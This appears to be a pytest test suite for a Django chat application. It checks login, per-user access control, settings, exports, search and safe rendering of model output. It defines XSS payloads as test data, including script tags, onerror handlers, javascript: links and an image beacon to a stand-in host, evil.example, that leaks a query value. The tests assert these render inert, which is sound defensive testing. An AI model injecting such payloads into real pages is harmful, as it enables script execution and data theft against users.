"""The chat pages: who may see and change what, and that model output stays inert."""

import json
import re
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.views.defaults import server_error

from chat.models import Budget, ChatModel, Conversation, Message, Provider

pytestmark = pytest.mark.django_db

HOSTILE = (
    "<script>alert('s')</script>\n\n"
    "<img src=x onerror=alert('i')>\n\n"
    "[click](javascript:alert('j'))\n\n"
    '<a href="javascript:alert(\'a\')">raw link</a> <iframe src="https://evil.example"></iframe>\n\n'
    "<style>body{display:none}</style> <div onclick=\"alert('d')\">div</div>\n\n"
    "![pixel](https://evil.example/leak.png?q=secret)"
)


@pytest.fixture
def alice() -> User:
    return User.objects.create_user("alice", password="alice-password-1")


@pytest.fixture
def bob() -> User:
    return User.objects.create_user("bob", password="bob-password-1")


@pytest.fixture
def alice_client(client: Client, alice: User) -> Client:
    client.force_login(alice)
    return client


@pytest.fixture
def bobs_chat(bob: User) -> Conversation:
    chat = Conversation.objects.create(user=bob, title="Bob's secret plans")
    Message.objects.create(conversation=chat, role="user", content="bob question")
    return chat


def reply(conversation: Conversation, content: str, **fields) -> Message:
    Message.objects.create(conversation=conversation, role="user", content="question")
    return Message.objects.create(conversation=conversation, role="assistant", content=content, **fields)


def page_config(response) -> dict:
    match = re.search(
        r'<script id="chat-config" type="application/json">(.*?)</script>', response.content.decode()
    )
    return json.loads(match.group(1))


def sidebar_ids(response) -> list[int]:
    found = re.findall(
        r'data-testid="conversation-item" data-conversation-id="(\d+)"', response.content.decode()
    )
    return [int(pk) for pk in found]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def assert_inert(html: str) -> None:
    """Parse as a browser would: hostile markup may survive only as text, never as elements."""
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag not in {"script", "style", "iframe", "img", "object", "embed", "form", "svg"}, tag
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for name in ("href", "src", "action", "formaction"):
            value = attrs.get(name, "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer nofollow"


# --- sign-in ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, args",
    [
        ("chat:home", []),
        ("chat:new", []),
        ("chat:conversation", [1]),
        ("chat:messages", [1]),
        ("chat:message", [1, 1]),
    ],
)
def test_it_requires_sign_in(client, name, args):
    response = client.get(reverse(name, args=args))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_it_shows_the_login_page(client):
    response = client.get(reverse("login"))
    assert response.status_code == 200
    assert b'name="username"' in response.content
    assert b"csrfmiddlewaretoken" in response.content


def test_it_signs_in(client, alice):
    response = client.post(reverse("login"), {"username": "alice", "password": "alice-password-1"})
    assert response.status_code == 302
    assert response["Location"] == reverse("chat:home")


def test_it_shows_the_password_change_page(alice_client):
    response = alice_client.get(reverse("password_change"))
    assert response.status_code == 200
    assert b'name="new_password1"' in response.content


# --- home and the conversation page -----------------------------------------------------------


def test_it_shows_a_new_chat_when_there_are_no_conversations(alice_client):
    response = alice_client.get(reverse("chat:home"))
    assert response.status_code == 200
    assert b'data-testid="composer"' in response.content
    assert page_config(response)["conversation"] is None


def test_home_is_a_new_chat_even_when_there_are_conversations(alice_client, alice):
    """Issue #14: `/` used to reopen the newest conversation, so a new question landed in it."""
    chat = Conversation.objects.create(user=alice, title="older chat")
    response = alice_client.get(reverse("chat:home"))
    assert response.status_code == 200
    assert page_config(response)["conversation"] is None
    assert sidebar_ids(response) == [chat.pk]  # the earlier chats are one click away


def test_home_does_not_show_someone_elses_conversation(alice_client, bobs_chat):
    response = alice_client.get(reverse("chat:home"))
    assert response.status_code == 200
    assert b"Bob&#x27;s secret plans" not in response.content


def test_it_lists_conversations_newest_first(alice_client, alice):
    first = Conversation.objects.create(user=alice, title="first chat")
    second = Conversation.objects.create(user=alice, title="second chat")
    Conversation.objects.filter(pk=first.pk).update(updated_at=second.updated_at.replace(year=2000))
    response = alice_client.get(reverse("chat:conversation", args=[first.pk]))
    assert sidebar_ids(response) == [second.pk, first.pk]


def test_it_shows_a_conversation(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="Soup")
    answer = reply(
        chat, "Use **leeks**.", prompt_tokens=12, completion_tokens=40, ttft_ms=250.0, duration_ms=2250.0
    )
    response = alice_client.get(reverse("chat:conversation", args=[chat.pk]))
    body = response.content.decode()
    assert response.status_code == 200
    assert "<strong>leeks</strong>" in body
    assert f'data-message-id="{answer.pk}"' in body
    assert "12 prompt · 40 completion tokens · first token 250 ms · 2.2 s total · 20.0 tok/s" in body
    config = page_config(response)
    assert config["conversation"]["id"] == chat.pk
    assert config["conversation"]["ws_path"] == f"/ws/chat/{chat.pk}/"


def test_it_leaves_out_earlier_versions_of_replies(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    reply(chat, "first version", superseded=True)
    reply(chat, "second version")
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert "second version" in body
    assert "first version" not in body


def test_it_badges_a_failed_reply_and_offers_retry(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    reply(
        chat,
        "partial",
        status="failed",
        error_code="upstream_unavailable",
        error_detail="The model provider had a server error.",
    )
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert "The model provider had a server error." in body
    assert re.search(r'data-testid="message-status"\s*>Failed<', body)
    assert 'data-testid="retry"' in body


def test_it_shows_a_streaming_reply_as_plain_text(alice_client, alice, monkeypatch):
    chat = Conversation.objects.create(user=alice)
    streaming = reply(chat, "**half", status="streaming")
    monkeypatch.setattr("chat.worker.live_ids", lambda: [streaming.pk])  # this process streams it
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert 'data-status="streaming"' in body
    assert ">**half</div>" in body


def test_it_hides_other_users_conversations(alice_client, bobs_chat):
    response = alice_client.get(reverse("chat:conversation", args=[bobs_chat.pk]))
    assert response.status_code == 404


# --- demo mode --------------------------------------------------------------------------------


def test_it_labels_the_demo_model(alice_client, settings):
    settings.CHAT_DEMO = True
    body = alice_client.get(reverse("chat:new")).content.decode()
    assert 'data-testid="demo-label"' in body
    assert "Demo model — not a real LLM" in body
    assert "OPENAI_API_KEY" in body


def test_the_demo_notice_is_hidden_while_a_real_model_is_picked(alice_client, alice, llama, settings):
    settings.CHAT_DEMO = True
    chat = Conversation.objects.create(user=alice, model="llama3.2")
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert re.search(r'data-testid="demo-label" role="note" hidden>', body)
    assert "Demo model (not a real LLM)</option>" in body  # still labelled in the picker
    body = alice_client.get(reverse("chat:new")).content.decode()
    assert re.search(r'data-testid="demo-label" role="note">', body)


def test_it_has_no_demo_label_with_a_real_provider(alice_client, settings):
    settings.CHAT_DEMO = False
    settings.OPENAI_API_KEY = "sk-live-DO-NOT-LEAK"
    body = alice_client.get(reverse("chat:new")).content.decode()
    assert 'data-testid="demo-label"' not in body
    assert "sk-live-DO-NOT-LEAK" not in body


# --- create, rename, delete, settings ---------------------------------------------------------


def test_it_creates_a_conversation(alice_client, alice):
    response = alice_client.post(
        reverse("chat:create"), {"title": "  Plan   a\ntrip "}, HTTP_ACCEPT="application/json"
    )
    assert response.status_code == 201
    chat = Conversation.objects.get(user=alice)
    assert chat.title == "Plan a trip"
    assert response.json()["url"] == reverse("chat:conversation", args=[chat.pk])
    assert response.json()["ws_path"] == f"/ws/chat/{chat.pk}/"


def test_it_creates_a_conversation_from_a_form(alice_client, alice):
    response = alice_client.post(reverse("chat:create"))
    chat = Conversation.objects.get(user=alice)
    assert response["Location"] == reverse("chat:conversation", args=[chat.pk])


def test_it_refuses_get_on_post_endpoints(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    for name in ("chat:rename", "chat:delete", "chat:settings"):
        assert alice_client.get(reverse(name, args=[chat.pk])).status_code == 405
    assert alice_client.get(reverse("chat:create")).status_code == 405


def test_it_requires_csrf_tokens(alice, alice_client):
    chat = Conversation.objects.create(user=alice, title="keep")
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(alice)
    assert strict.post(reverse("chat:create")).status_code == 403
    assert strict.post(reverse("chat:delete", args=[chat.pk])).status_code == 403
    assert strict.post(reverse("chat:rename", args=[chat.pk]), {"title": "x"}).status_code == 403
    assert Conversation.objects.filter(pk=chat.pk, title="keep").exists()


def test_it_renames(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="old")
    response = alice_client.post(reverse("chat:rename", args=[chat.pk]), {"title": "new name"})
    assert response.status_code == 302
    chat.refresh_from_db()
    assert chat.title == "new name"


def test_it_renames_without_reordering_the_sidebar(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="old")
    before = chat.updated_at
    alice_client.post(reverse("chat:rename", args=[chat.pk]), {"title": "new"})
    chat.refresh_from_db()
    assert chat.updated_at == before


def test_it_deletes(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    reply(chat, "gone soon")
    response = alice_client.post(reverse("chat:delete", args=[chat.pk]))
    assert response["Location"] == reverse("chat:home")
    assert not Conversation.objects.filter(pk=chat.pk).exists()
    assert not Message.objects.filter(conversation_id=chat.pk).exists()


def test_it_asks_before_deleting(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert 'id="delete-dialog"' in body
    assert "cannot be undone" in body


@pytest.fixture
def llama() -> ChatModel:
    ollama = Provider.objects.create(name="ollama", base_url="http://localhost:11434/v1")
    return ChatModel.objects.create(provider=ollama, name="llama3.2", display_name="Llama 3.2")


def test_it_sets_model_and_system_prompt(alice_client, alice, llama):
    chat = Conversation.objects.create(user=alice)
    response = alice_client.post(
        reverse("chat:settings", args=[chat.pk]), {"model": "llama3.2", "system_prompt": "Answer in French."}
    )
    assert response["Location"] == reverse("chat:conversation", args=[chat.pk])
    chat.refresh_from_db()
    assert (chat.model, chat.system_prompt) == ("llama3.2", "Answer in French.")


def test_it_offers_the_sites_models_in_a_select(alice_client, alice, llama, settings):
    settings.CHAT_MODEL = "gpt-4o-mini"
    settings.CHAT_DEMO = False
    chat = Conversation.objects.create(user=alice, model="llama3.2", system_prompt="Be brief.")
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    select = body.split('<select name="model"', 1)[1].split("</select>", 1)[0]
    assert 'data-testid="model-picker"' in select
    assert 'form="settings-form"' in select  # the header's picker saves with the system prompt
    # The default once, as "" (it follows the site's default), by name; then the others.
    assert re.findall(r'<option value="([^"]*)"', select) == ["", "llama3.2"]
    assert '<option value="">gpt-4o-mini</option>' in select
    assert '<option value="llama3.2" selected>Llama 3.2</option>' in select
    assert re.search(
        r"<textarea[^>]*data-testid=\"settings-system-prompt\"[^>]*>\s*Be brief.</textarea>", body
    )


def test_a_default_chosen_by_name_shows_as_the_default(alice_client, alice, llama, settings):
    settings.CHAT_MODEL = "gpt-4o-mini"
    settings.CHAT_DEMO = False
    chat = Conversation.objects.create(user=alice, model="gpt-4o-mini")
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert '<option value="" selected>gpt-4o-mini</option>' in body
    response = alice_client.post(reverse("chat:settings", args=[chat.pk]), {"model": "gpt-4o-mini"})
    assert response.status_code == 302  # still a model the site offers


def test_a_new_chat_is_created_with_the_model_and_system_prompt_picked(alice_client, alice, llama):
    response = alice_client.post(
        reverse("chat:create"),
        {"title": "Bonjour", "model": "llama3.2", "system_prompt": "Answer in French."},
        HTTP_ACCEPT="application/json",
    )
    assert response.status_code == 201
    chat = Conversation.objects.get(user=alice)
    assert (chat.title, chat.model, chat.system_prompt) == ("Bonjour", "llama3.2", "Answer in French.")


def test_a_new_chat_with_a_model_not_offered_is_not_created(alice_client, alice, llama):
    llama.enabled = False
    llama.save()
    response = alice_client.post(
        reverse("chat:create"), {"title": "x", "model": "llama3.2"}, HTTP_ACCEPT="application/json"
    )
    assert response.status_code == 400
    assert "“llama3.2” is not a model this site offers" in response.json()["errors"]["model"][0]["message"]
    response = alice_client.post(reverse("chat:create"), {"model": "llama3.2", "system_prompt": "kept"})
    assert response.status_code == 400  # without JavaScript: the page, the error, the text kept
    body = response.content.decode()
    assert "“llama3.2” is not a model this site offers" in body
    assert re.search(r">\s*kept</textarea>", body)
    assert not Conversation.objects.filter(user=alice).exists()


def test_it_goes_back_to_the_default_model(alice_client, alice, llama):
    chat = Conversation.objects.create(user=alice, model="llama3.2")
    alice_client.post(reverse("chat:settings", args=[chat.pk]), {"model": "", "system_prompt": ""})
    chat.refresh_from_db()
    assert chat.model == ""


def test_it_refuses_a_model_the_site_does_not_offer(alice_client, alice, llama):
    chat = Conversation.objects.create(user=alice, model="llama3.2", system_prompt="keep")
    response = alice_client.post(
        reverse("chat:settings", args=[chat.pk]), {"model": "gpt-5-secret", "system_prompt": "changed"}
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "“gpt-5-secret” is not a model this site offers" in body
    assert 'data-testid="settings-error"' in body
    assert '<dialog id="settings-dialog" class="dialog" aria-labelledby="settings-h" open>' in body
    assert re.search(r">\s*changed</textarea>", body)  # what was typed is kept
    chat.refresh_from_db()
    assert (chat.model, chat.system_prompt) == ("llama3.2", "keep")


def test_it_refuses_a_disabled_model(alice_client, alice, llama):
    llama.enabled = False
    llama.save()
    chat = Conversation.objects.create(user=alice)
    response = alice_client.post(reverse("chat:settings", args=[chat.pk]), {"model": "llama3.2"})
    assert response.status_code == 400
    chat.refresh_from_db()
    assert chat.model == ""


def test_it_reports_settings_errors_as_json(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    response = alice_client.post(
        reverse("chat:settings", args=[chat.pk]), {"model": "nope"}, HTTP_ACCEPT="application/json"
    )
    assert response.status_code == 400
    assert "is not a model this site offers" in response.json()["errors"]["model"][0]["message"]


def test_it_names_a_model_that_is_no_longer_offered(alice_client, alice, llama):
    chat = Conversation.objects.create(user=alice, model="retired-model")
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert '<option value="retired-model" selected>retired-model (no longer offered)</option>' in body
    response = alice_client.post(
        reverse("chat:settings", args=[chat.pk]), {"model": "retired-model", "system_prompt": "x"}
    )
    assert response.status_code == 400
    assert "“retired-model” is not a model this site offers" in response.content.decode()


# --- exports ----------------------------------------------------------------------------------


def test_it_exports_markdown_to_the_owner(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="Soup", system_prompt="Be brief.")
    reply(chat, "Use **leeks**.")
    response = alice_client.get(reverse("chat:export_md", args=[chat.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="conversation-{chat.pk}.md"'
    body = response.content.decode()
    assert body.startswith("# Soup\n")
    assert "## System\n\nBe brief." in body
    assert "## User\n\nquestion" in body and "## Assistant\n\nUse **leeks**." in body


def test_it_exports_json_to_the_owner(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="Soup")
    answer = reply(chat, "Use leeks.", prompt_tokens=3, completion_tokens=4)
    response = alice_client.get(reverse("chat:export_json", args=[chat.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="conversation-{chat.pk}.json"'
    data = json.loads(response.content)
    assert (data["id"], data["title"], data["user"]) == (chat.pk, "Soup", "alice")
    assert [m["role"] for m in data["messages"]] == ["user", "assistant"]
    assert data["messages"][1]["id"] == answer.pk
    assert (data["messages"][1]["prompt_tokens"], data["messages"][1]["completion_tokens"]) == (3, 4)


def test_it_links_exports_from_the_page(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    response = alice_client.get(reverse("chat:conversation", args=[chat.pk]))
    body = response.content.decode()
    assert f'href="{reverse("chat:export_md", args=[chat.pk])}"' in body
    assert f'href="{reverse("chat:export_json", args=[chat.pk])}"' in body
    config = page_config(response)["conversation"]
    assert config["export_md_url"] == reverse("chat:export_md", args=[chat.pk])


# --- budget -----------------------------------------------------------------------------------


def budget_text(response) -> tuple[str, bool]:
    match = re.search(
        r'<p class="budget muted" id="budget" data-testid="budget"([^>]*)>(.*?)</p>',
        response.content.decode(),
    )
    return match.group(2), "hidden" in match.group(1)


# The page words the line (static/chat/budget.js), on load as after every reply; what it
# reads is asserted here, the words in tests/test_browser.py::test_the_budget_line_is_worded_on_load_as_after_a_reply.
def test_it_gives_the_page_the_remaining_budget(alice_client, alice):
    Budget.objects.create(user=alice, tokens_per_day=5000, tokens_per_month=100000)
    chat = Conversation.objects.create(user=alice)
    reply(chat, "spent", prompt_tokens=1000, completion_tokens=234)
    response = alice_client.get(reverse("chat:conversation", args=[chat.pk]))
    assert page_config(response)["budget"] == {"tokens_left_today": 3766, "tokens_left_this_month": 98766}


def test_it_gives_the_page_a_monthly_budget_alone(alice_client, alice):
    Budget.objects.create(user=alice, tokens_per_month=2000)
    response = alice_client.get(reverse("chat:new"))
    assert page_config(response)["budget"] == {"tokens_left_today": None, "tokens_left_this_month": 2000}


def test_it_hides_the_budget_line_without_a_budget(alice_client):
    response = alice_client.get(reverse("chat:new"))
    assert budget_text(response) == ("", True)
    assert page_config(response)["budget"] is None


def test_it_does_not_let_alice_change_bobs_conversation(alice_client, bobs_chat):
    pk = bobs_chat.pk
    assert alice_client.post(reverse("chat:rename", args=[pk]), {"title": "pwned"}).status_code == 404
    assert alice_client.post(reverse("chat:settings", args=[pk]), {"model": "x"}).status_code == 404
    assert alice_client.post(reverse("chat:delete", args=[pk])).status_code == 404
    bobs_chat.refresh_from_db()
    assert bobs_chat.title == "Bob's secret plans"
    assert bobs_chat.model == ""


# --- search -----------------------------------------------------------------------------------


def test_it_searches_titles_and_message_text(alice_client, alice, bobs_chat):
    by_title = Conversation.objects.create(user=alice, title="Lentil soup")
    by_text = Conversation.objects.create(user=alice, title="Dinner")
    reply(by_text, "Try a SOUP with leeks.")
    other = Conversation.objects.create(user=alice, title="Taxes")
    reply(other, "Nothing here.")
    Message.objects.create(conversation=bobs_chat, role="user", content="soup for bob")
    response = alice_client.get(reverse("chat:conversation", args=[other.pk]), {"q": "soup"})
    assert sorted(sidebar_ids(response)) == sorted([by_title.pk, by_text.pk])


def test_home_searches_the_sidebar(alice_client, alice):
    soup = Conversation.objects.create(user=alice, title="soup")
    Conversation.objects.create(user=alice, title="taxes")
    response = alice_client.get(reverse("chat:home"), {"q": "soup"})
    assert response.status_code == 200 and page_config(response)["conversation"] is None
    assert sidebar_ids(response) == [soup.pk]


# --- the sidebar's list, as JSON for searching as you type ------------------------------------


def test_it_lists_chats_as_json_newest_first_with_what_the_sidebar_needs(alice_client, alice):
    older = Conversation.objects.create(user=alice, title="older")
    newer = Conversation.objects.create(user=alice, title="")
    Conversation.objects.filter(pk=older.pk).update(updated_at=newer.updated_at.replace(year=2020))
    data = alice_client.get(reverse("chat:list")).json()
    assert data["query"] == "" and [c["id"] for c in data["conversations"]] == [newer.pk, older.pk]
    first = data["conversations"][0]
    assert first["title"] == "" and first["url"] == reverse("chat:conversation", args=[newer.pk])
    assert first["updated_at"] == newer.updated_at.isoformat()  # with its offset: grouped by the browser
    assert first["delete_url"] == reverse("chat:delete", args=[newer.pk])
    assert first["export_md_url"] == reverse("chat:export_md", args=[newer.pk])


def test_the_json_list_searches_titles_and_message_text(alice_client, alice):
    by_title = Conversation.objects.create(user=alice, title="Soup recipes")
    by_text = Conversation.objects.create(user=alice, title="dinner")
    reply(by_text, "a tomato SOUP")
    Conversation.objects.create(user=alice, title="taxes")
    data = alice_client.get(reverse("chat:list"), {"q": "  soup "}).json()
    assert data["query"] == "soup"
    assert sorted(c["id"] for c in data["conversations"]) == sorted([by_title.pk, by_text.pk])


def test_the_json_list_needs_a_signed_in_user(client):
    response = client.get(reverse("chat:list"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_renaming_from_the_sidebar_says_what_was_wrong(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="kept")
    response = alice_client.post(
        reverse("chat:rename", args=[chat.pk]), {"title": "x" * 201}, HTTP_ACCEPT="application/json"
    )
    assert response.status_code == 400 and response.json()["errors"]["title"]
    chat.refresh_from_db()
    assert chat.title == "kept"
    ok = alice_client.post(
        reverse("chat:rename", args=[chat.pk]), {"title": "new"}, HTTP_ACCEPT="application/json"
    )
    assert ok.json() == {"id": chat.pk, "title": "new"}


def test_deleting_from_the_sidebar_answers_json(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    response = alice_client.post(reverse("chat:delete", args=[chat.pk]), HTTP_ACCEPT="application/json")
    assert response.json() == {"id": chat.pk, "deleted": True, "new_url": reverse("chat:new")}
    assert not Conversation.objects.filter(pk=chat.pk).exists()


# --- message JSON -----------------------------------------------------------------------------


def test_it_returns_a_rendered_message(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    answer = reply(
        chat,
        "| a | b |\n|---|---|\n| 1 | 2 |",
        status="cancelled",
        finish_reason="cancelled",
        prompt_tokens=5,
        completion_tokens=7,
        ttft_ms=100.0,
        duration_ms=600.0,
    )
    data = alice_client.get(reverse("chat:message", args=[chat.pk, answer.pk])).json()
    assert data["id"] == answer.pk
    assert data["stats_quiet"] == "600 ms"  # all the stats line shows until hover or a tap
    assert "<table>" in data["html"]
    assert data["status"] == "cancelled"
    assert data["finish_reason"] == "cancelled"
    assert (data["prompt_tokens"], data["completion_tokens"]) == (5, 7)
    assert data["stats"] == "5 prompt · 7 completion tokens · first token 100 ms · 600 ms total · 14.0 tok/s"


def test_it_lists_current_messages_as_json(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    reply(chat, "old", superseded=True)
    reply(chat, "new")
    data = alice_client.get(reverse("chat:messages", args=[chat.pk])).json()
    assert [m["content"] for m in data["messages"]] == ["question", "question", "new"]


def test_it_does_not_show_bobs_message_json(alice_client, bobs_chat):
    message = bobs_chat.messages.get()
    assert alice_client.get(reverse("chat:message", args=[bobs_chat.pk, message.pk])).status_code == 404
    assert alice_client.get(reverse("chat:messages", args=[bobs_chat.pk])).status_code == 404


def test_it_does_not_show_bobs_message_through_alices_conversation(alice_client, alice, bobs_chat):
    mine = Conversation.objects.create(user=alice)
    message = bobs_chat.messages.get()
    assert alice_client.get(reverse("chat:message", args=[mine.pk, message.pk])).status_code == 404


# --- hostile content --------------------------------------------------------------------------


def test_it_renders_hostile_replies_inert_in_the_page(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="<script>alert('title')</script>")
    reply(chat, HOSTILE)
    Message.objects.create(conversation=chat, role="user", content=HOSTILE)
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    # The page's own scripts are the module, the JSON config and the pre-paint preferences
    # (a static file: static/chat/prefs.js); nothing else.
    scripts = re.findall(r"<script[^>]*>", body)
    assert all(
        'type="module"' in s or 'type="application/json"' in s or s == '<script src="/static/chat/prefs.js">'
        for s in scripts
    )
    main = body.split('<div class="messages"', 1)[1].split('<div class="empty-state"', 1)[0]
    assert_inert(main)
    assert "&lt;script&gt;alert(&#x27;s&#x27;)" in main or "&lt;script&gt;alert('s')" in main


def test_it_renders_hostile_replies_inert_in_message_json(alice_client, alice):
    chat = Conversation.objects.create(user=alice)
    answer = reply(chat, HOSTILE)
    data = alice_client.get(reverse("chat:message", args=[chat.pk, answer.pk])).json()
    assert_inert(data["html"])
    assert (
        '<a href="https://evil.example/leak.png?q=secret" rel="noopener noreferrer nofollow">' in data["html"]
    )


def test_it_escapes_conversation_data_in_the_page_config(alice_client, alice):
    chat = Conversation.objects.create(user=alice, title="</script><script>alert(1)</script>")
    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    assert "</script><script>alert(1)" not in body


def test_a_reply_left_streaming_by_a_dead_server_shows_as_interrupted(client, django_user_model):
    from chat.models import Conversation, Message

    owner = django_user_model.objects.create_user("dora", password="x")
    conversation = Conversation.objects.create(user=owner)
    Message.objects.create(conversation=conversation, role="user", content="Hi")
    Message.objects.create(conversation=conversation, role="assistant", content="Half", status="streaming")
    client.force_login(owner)
    assert client.get(f"/c/{conversation.pk}/").status_code == 200
    reply = conversation.messages.get(role="assistant")
    assert (reply.status, reply.content) == ("interrupted", "Half")


def test_stats_fall_back_to_the_providers_usage_when_tiktoken_could_not_count():
    from chat.models import Message
    from chat.rendering import format_stats

    reply = Message(
        role="assistant", usage={"prompt_tokens": 12, "completion_tokens": 30}, ttft_ms=100, duration_ms=1100
    )
    assert (
        format_stats(reply)
        == "12 prompt · 30 completion tokens · first token 100 ms · 1.1 s total · 30.0 tok/s"
    )


def test_stats_say_when_tokens_could_not_be_counted():
    from chat.models import Message
    from chat.rendering import format_stats

    reply = Message(role="assistant", ttft_ms=50, duration_ms=900)
    assert (
        format_stats(reply)
        == "tokens not counted (no tokenizer vocabulary) · first token 50 ms · 900 ms total"
    )


@pytest.mark.parametrize(
    ("name", "field", "view"),
    [("title", "title", "chat:rename"), ("system_prompt", "system_prompt", "chat:settings")],
)
def test_text_fields_never_store_unencodable_text(alice_client, alice, name, field, view):
    """Issue #12: a surrogate half sent as raw bytes is decoded as U+FFFD; a NUL is refused."""
    chat = Conversation.objects.create(user=alice, title="old")
    url = reverse(view, args=[chat.pk])
    form = "application/x-www-form-urlencoded"
    response = alice_client.post(url, f"{name}=a%ED%A0%BDb", content_type=form)
    assert response.status_code == 302
    chat.refresh_from_db()
    assert getattr(chat, field) == "a\ufffd\ufffd\ufffdb"
    alice_client.post(url, f"{name}=x%00y", content_type=form)
    chat.refresh_from_db()
    assert "\x00" not in getattr(chat, field)


def test_it_refuses_a_system_prompt_longer_than_the_limit(alice_client, alice, settings):
    settings.CHAT_MAX_SYSTEM_PROMPT_CHARS = 1000
    chat = Conversation.objects.create(user=alice, system_prompt="keep")
    url = reverse("chat:settings", args=[chat.pk])
    response = alice_client.post(url, {"model": "", "system_prompt": "x" * 1001})
    assert response.status_code == 400
    body = response.content.decode()
    assert "The system prompt can be at most 1,000 characters; this one has 1,001." in body
    assert 'data-testid="settings-error"' in body
    response = alice_client.post(
        url, {"model": "", "system_prompt": "x" * 2_400_000}, headers={"accept": "application/json"}
    )
    assert response.status_code == 400
    assert response.json()["errors"]["system_prompt"][0]["code"] == "max_length"
    chat.refresh_from_db()
    assert chat.system_prompt == "keep"
    alice_client.post(url, {"model": "", "system_prompt": "y" * 1000})  # the limit itself is fine
    chat.refresh_from_db()
    assert chat.system_prompt == "y" * 1000
    page = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
    textarea = re.search(r'<textarea[^>]*data-testid="settings-system-prompt"[^>]*>', page).group(0)
    assert 'maxlength="1000"' in textarea  # the browser stops typing there too


# --- error pages ------------------------------------------------------------------------------


def test_the_server_error_page_renders_without_a_request_context(rf):
    """Django renders 500.html with a bare Context: the page must still have the site's look
    and a way back, with nothing that needs the request, the user or the database."""
    response = server_error(rf.get("/"))
    assert response.status_code == 500
    body = response.content.decode()
    assert 'data-testid="error-back" href="/"' in body
    assert "chat/chat.css" in body
